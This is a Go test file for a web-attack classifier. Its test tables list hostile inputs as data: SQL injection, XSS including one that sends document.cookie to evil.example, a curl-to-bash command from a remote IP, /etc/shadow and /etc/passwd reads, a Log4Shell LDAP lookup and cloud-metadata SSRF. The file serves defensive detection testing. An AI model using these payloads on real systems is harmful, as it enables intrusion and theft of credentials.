package model

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func builtIn(t *testing.T) *Model {
	t.Helper()
	m, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// None of these stands in the generators as it is here.
func TestScores(t *testing.T) {
	t.Parallel()
	m := builtIn(t)
	for _, c := range []struct {
		value string
		class Class
	}{
		{"7' UnIoN/**/sElEcT login,pass FrOm members-- x", SQLInjection},
		{"12 AND ASCII(SUBSTRING((SELECT email FROM clients LIMIT 1),2,1))>64", SQLInjection},
		{`"><details open ontoggle=confirm(document.domain)>`, XSS},
		{base64.StdEncoding.EncodeToString([]byte("<svg/onload=fetch('//evil.example/'+document.cookie)>")), XSS},
		{`\u003cimg src=x onerror=alert(7)\u003e`, XSS},
		{"..%252f..%252f..%252fetc%252fpasswd", PathTraversal},
		{`..\..\..\..\windows\win.ini`, PathTraversal},
		{"report.pdf; curl http://198.51.100.7/x.sh | bash", CommandInjection},
		{"$(cat${IFS}/etc/shadow)", CommandInjection},
		{"{{''.__class__.__base__.__subclasses__()}}", CodeInjection},
		{"${${lower:j}${lower:n}di:ldap://203.0.113.9/x}", CodeInjection},
		{"*)(uid=*))(|(uid=*", LDAPInjection},
		{"http://169.254.169.254/latest/meta-data/hostname", SSRF},
		{"en\r\nSet-Cookie: admin=1", HeaderInjection},
	} {
		s := m.Score(c.value)
		if s.Attack < m.Info.Threshold || s.Class != c.class {
			t.Errorf("%q: %.3f, %s", c.value, s.Attack, s.Class)
		}
		if len(m.Reasons(s, 4)) == 0 {
			t.Errorf("%q: no reason", c.value)
		}
	}
	for _, value := range []string{
		"Siobhan O'Brien", "L'Hospitalet d'Infant", "select your seat and order drinks from the table", "Union Station or Drop Inn?", "x = (a + b) * c / 2",
		`{"name":"D'Angelo","tags":["a","b"]}`, "https://shop.example/search?q=red+shoes&page=2#top", "C:\\Users\\anna\\report 2026.docx", "for (let i = 0; i < 9; i++) total += i;",
		"Il faut sélectionner l'hôtel d'abord", "сколько стоит билет?", "rock & roll; jazz | blues", "<p>Hello <b>world</b></p>", "bed & breakfast (2 adults, 1 child)",
		"dGhpcyBpcyBqdXN0IGEgc2hvcnQgbm90ZSB0byBteXNlbGY=", "5 > 3 and 2 < 4", "SELECT is my favourite keyword", "name asc", "it's 5 o'clock somewhere",
	} {
		if s := m.Score(value); Suspect(value) && s.Attack >= m.Info.Threshold {
			t.Errorf("%q: %.3f, %s, for %v", value, s.Attack, s.Class, m.Reasons(s, 4))
		}
	}
}

func TestLongHarmlessTextHidesNothing(t *testing.T) {
	t.Parallel()
	m := builtIn(t)
	padding := strings.Repeat("a harmless sentence about nothing. ", 4000)
	if s := m.Score(padding); s.Attack >= m.Info.Threshold {
		t.Errorf("the padding alone: %.3f", s.Attack)
	}
	if s := m.Score(padding + "' union select password from users-- " + padding); s.Attack < m.Info.Threshold {
		t.Errorf("behind 140 kB: %.3f", s.Attack)
	}
}

func TestReasonsAreWords(t *testing.T) {
	t.Parallel()
	m := builtIn(t)
	s := m.Score(url.QueryEscape(url.QueryEscape("' or 1=1--")))
	all := strings.Join(m.Reasons(s, 12), "; ")
	for _, want := range []string{"a comparison of a thing with itself", "1=1"} {
		if !strings.Contains(all, want) {
			t.Errorf("no %q in %q", want, all)
		}
	}
}

// What may be an attack is scored; most values of real requests are not.
func TestSuspect(t *testing.T) {
	t.Parallel()
	for value, want := range map[string]bool{
		"red": false, "id": false, "42": false, "anna.smith@example.com": false, "2026-01-02": false, "red shoes": false, "größe": false,
		"a'b": true, "../x": true, "..": true, "1 or 1": true, "ping.exe -n 3 a": true, "setup.exe for free": false, "union select 1": true, "%27": true, "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg": true, "": false,
	} {
		if got := Suspect(value); got != want {
			t.Errorf("%q: %v", value, got)
		}
	}
	for path, want := range map[string]bool{
		"/": false, "/blog/2026/a-long_title.html": false, "/~anna/": false, "/a/../b": true, "/x'": true, "/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg/": true,
	} {
		if got := SuspectPath(path); got != want {
			t.Errorf("path %q: %v", path, got)
		}
	}
	if SuspectHeader("Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101") || !SuspectHeader("() { :;}; id") {
		t.Error("headers")
	}
}

func TestReadRefusesWhatItCannotUse(t *testing.T) {
	t.Parallel()
	head, body, _ := bytes.Cut(embedded, []byte("\n"))
	for name, raw := range map[string][]byte{
		"nothing":         nil,
		"no heading":      []byte("{"),
		"no JSON":         append([]byte("x\n"), body...),
		"another version": append(append(bytes.Replace(head, []byte(Version), []byte("ai_v0.9"), 1), '\n'), body...),
		"cut":             embedded[:len(embedded)-1],
		"no scale":        append(append(bytes.Replace(head, []byte(`"scale"`), []byte(`"stale"`), 1), '\n'), body...),
	} {
		if _, err := Read(raw); err == nil {
			t.Errorf("%s: taken", name)
		}
	}
}

// sampleFile writes a small file of labelled values.
func sampleFile(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	var b strings.Builder
	b.WriteString("payload,length,attack_type,label\n")
	for i := range 40 {
		fmt.Fprintf(&b, "word%d,5,norm,norm\n1' or %d=%d--,9,sqli,anom\n<script>x(%d)</script>,9,xss,anom\n../../f%d,9,path-traversal,anom\n;id %d,9,cmdi,anom\n", i, i, i, i, i, i)
	}
	file := filepath.Join(dir, dataFile)
	if err := os.MkdirAll(filepath.Dir(file), 0o750); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	return dir
}

// The same data and seed give the same weights, and other seeds others.
func TestTrainingIsReproducible(t *testing.T) {
	t.Parallel()
	dir := sampleFile(t)
	samples, digest, err := LoadSamples(dir)
	if err != nil || len(samples) != 200 || len(digest) != 64 {
		t.Fatalf("%d samples, digest %q, %v", len(samples), digest, err)
	}
	weights := func(seed uint64) []float32 { return fit(prepare(append(samples, Generate(seed, 0.02)...)), seed) }
	a, b, c := weights(3), weights(3), weights(4)
	if fmt.Sprint(a) != fmt.Sprint(b) {
		t.Error("the same seed gave other weights")
	}
	if fmt.Sprint(a) == fmt.Sprint(c) {
		t.Error("another seed gave the same weights")
	}
}

func TestLoadSamplesNamesWhatIsWrong(t *testing.T) {
	t.Parallel()
	dir := sampleFile(t)
	if err := os.WriteFile(filepath.Join(dir, dataFile), []byte("a,b,c,d\nx,1,what,anom\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, _, err := LoadSamples(dir); err == nil || !strings.Contains(err.Error(), "row 2") {
		t.Errorf("error %v", err)
	}
	if _, _, err := LoadSamples(t.TempDir()); err == nil {
		t.Error("a missing file was taken")
	}
}

// What the figures mean: two sure and right, one sure and wrong, one in between.
func TestSumUp(t *testing.T) {
	t.Parallel()
	held := func(class, as Class, attack float64) Held {
		return Held{Sample: Sample{Class: class}, Class: as, Attack: attack, Threshold: 0.5}
	}
	r := sumUp([]Held{held(SQLInjection, SQLInjection, 1), held(Benign, XSS, 0), held(Benign, XSS, 1), held(XSS, SQLInjection, 0.65)})
	if want := (0 + 0 + 1 + 0.35*0.35) / 4; r.Brier != round(want) {
		t.Errorf("Brier score %v, want %v", r.Brier, want)
	}
	if want := (0.5*2 + 0.35) / 4; r.ECE != round(want) {
		t.Errorf("calibration error %v, want %v", r.ECE, want)
	}
	if r.flagged() != 50 || r.found()["sqli"] != 100 || r.found()["xss"] != 100 || r.Classes[2].Named != 0 {
		t.Errorf("%+v", r.Classes)
	}
}

func FuzzScore(f *testing.F) {
	m, err := Default()
	if err != nil {
		f.Fatal(err)
	}
	f.Add("' or 1=1--")
	f.Add("/*!50000a*/\x00on\xff=`${IFS}")
	f.Fuzz(func(t *testing.T, s string) {
		got := m.Score(s)
		if !(got.Attack >= 0 && got.Attack <= 1) || got.Class == Benign || got.Class >= classes {
			t.Errorf("%q: %+v", s, got)
		}
		m.Reasons(got, 3)
	})
}
